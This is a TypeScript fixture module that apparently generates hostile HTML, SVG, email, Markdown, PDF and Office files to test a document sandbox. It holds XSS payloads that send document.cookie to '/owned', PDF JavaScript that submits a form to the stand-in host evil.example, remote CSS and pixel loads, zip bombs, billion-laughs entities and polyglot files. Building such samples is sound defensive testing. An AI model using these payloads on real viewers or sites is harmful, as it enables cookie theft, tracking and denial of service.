import { crc32, deflateSync } from 'node:zlib';
import { pdfOf } from '../../../sandbox/src/shared/content/pdf.ts';
import { zip } from './zip.ts';

/** The attempts of a hostile script: to leak data, to change the page, to navigate away. */
const deeds = `alert('owned');localStorage.owned=1;top.document.title='owned';top.owned=1;top.location='/owned';
new Image().src='/owned?'+document.cookie;fetch('/owned');parent.postMessage({type:'link',href:'javascript:owned()'},'*');`;
const attribute = deeds.replaceAll('\n', '').replaceAll("'", '&#39;');

export const html = `<!doctype html><html><head><title>Bill</title><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=/owned"><link rel="stylesheet" href="/owned.css">
<script>${deeds}</script></head><body onload="${attribute}"><h1>Your bill</h1>
<img src="http://evil.example/pixel.gif" onerror="${attribute}"><svg onload="${attribute}"><script>${deeds}</script></svg>
<iframe srcdoc="<script>${attribute}</script>"></iframe><object data="/owned"></object><embed src="/owned">
<form action="/owned"><input name="a" autofocus onfocus="${attribute}"><button>Pay</button></form>
<style>@\\69mport "http://evil.example/owned.css"; h1 { background: u\\72l(http://evil.example/owned.gif) }
p { background: image-set("http://evil.example/owned.png" 1x); cursor: \\75\\72\\6c(http://evil.example/owned.cur), auto }</style>
<p style="background: -webkit-cross-fade(u\\72l(http://evil.example/owned.gif), red, 5%)">Please</p>
<img srcset="http:\\\\evil.example/owned.png 1x" alt=""><svg><rect mask="u\\72l(http://evil.example/owned.svg#m)"/></svg>
<a href="javascript:${attribute}">Pay now</a><math><mtext><table><mglyph><style><img src=x onerror="${attribute}">
</body></html>`;

export const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="${attribute}">
<script>${deeds.replaceAll('&', '&amp;')}</script><rect width="300" height="200" fill="teal"/>
<foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml" onload="${attribute}"/></foreignObject>
<image href="http://evil.example/pixel.png"/></svg>`;

export const mail = `From: Mallory <mallory@evil.example>\r\nTo: you@example.com\r\nSubject: Urgent\r\nMIME-Version: 1.0\r
Content-Type: text/html; charset=utf-8\r\n\r\n${html}`;

export const markdown = `# Notes\n\n<script>${deeds}</script>\n\n[Click](javascript:${encodeURIComponent(deeds)})
<img src=x onerror="${attribute}">\n\n![pixel](http://evil.example/pixel.gif)`;

/** Runs JavaScript when opened, on the page and by a link, if a viewer lets it. */
export function pdf(): Buffer {
  const script = '(app.alert\\("owned"\\); this.submitForm\\("http://evil.example/owned"\\);)';
  const text = 'BT /F1 24 Tf 72 700 Td (A harmless looking page) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
      /AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792]
      /A << /S /URI /URI (javascript:owned\\(\\)) >> >>] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    // A font whose matrix contains a program, which was once a vulnerability of the library.
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\)//)] >>',
  ];
  return pdfOf(objects);
}

const MAIN = { docx: 'word/document.xml', xlsx: 'xl/workbook.xml', pptx: 'ppt/presentation.xml' };
type Office = keyof typeof MAIN;

/** Hundreds of kilobytes that unpack to more than any real document. */
export function bomb(kind: Office, { honest }: { honest: boolean }): Buffer {
  const space = Buffer.alloc(100 * 1024 * 1024, ' ');
  const files = { '[Content_Types].xml': '<Types/>', [MAIN[kind]]: '<a/>', 'media/1.xml': space, 'media/2.xml': space };
  return zip(files, honest ? {} : { claimedSize: 10 });
}

export const broken = {
  xml: (kind: Office) => zip({ '[Content_Types].xml': '<Types/>', [MAIN[kind]]: '<a><b></a>' }),
  empty: () => zip({ 'nothing.txt': 'x' }),
  cut: () => zip({ 'word/document.xml': '<a/>'.repeat(1000) }).subarray(0, 80),
  noise: () => Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 7919 + (n >> 3)) & 0xff)),
};

const LAUGHS = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** Entities that would grow to a trillion words. */
export const laughs = (): Buffer =>
  zip({ 'ppt/presentation.xml': `<!DOCTYPE a [<!ENTITY l0 "ha">${LAUGHS}]><a>&l12;</a>` });

/** A Word document that brings HTML, a link that runs, and a picture from elsewhere. */
export function docx(): Buffer {
  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relation = (id: string, type: string, target: string, mode = '') =>
    `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}" ${mode}/>`;
  const relations = (list: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`;
  return zip({
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
      <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
      <Default Extension="html" ContentType="text/html"/><Default Extension="xml" ContentType="application/xml"/></Types>`,
    '_rels/.rels': relations(relation('r1', 'officeDocument', 'word/document.xml')),
    'word/_rels/document.xml.rels': relations(
      relation('r1', 'hyperlink', 'javascript:top.owned=1', 'TargetMode="External"') +
        relation('r2', 'aFChunk', 'chunk.html') +
        relation('r3', 'image', 'http://evil.example/pixel.png', 'TargetMode="External"'),
    ),
    'word/chunk.html': html,
    'word/document.xml': `<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>
      <w:p><w:r><w:t>Dear customer</w:t></w:r></w:p><w:altChunk r:id="r2"/>
      <w:p><w:hyperlink r:id="r1"><w:r><w:t>Pay here</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r><w:t>&lt;img src=x onerror="${attribute.replaceAll('&', '&amp;')}"&gt;</w:t></w:r></w:p></w:body></w:document>`,
  });
}

/** A PNG with one bit per pixel: small, whatever size it claims. */
export function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));
  const sign = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([sign, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

/** A drawing in which each of twelve groups contains the one before ten times. */
export const endlessSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><g id="g0"><rect width="1" height="1"/></g>
${Array.from({ length: 12 }, (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`).join('')}</svg>`;

/** Starts as a GIF and continues as a script; as a page; as a PDF that is a zip. */
export const polyglots = {
  gif: Buffer.from(`GIF89a/*\x0a\x00\x0a\x00*/=1;${deeds}<script>${deeds}</script>`, 'latin1'),
  pdf: Buffer.concat([Buffer.from(html), pdf(), docx()]),
  docx: Buffer.concat([Buffer.from(`<script>${deeds}</script>`), docx()]),
};
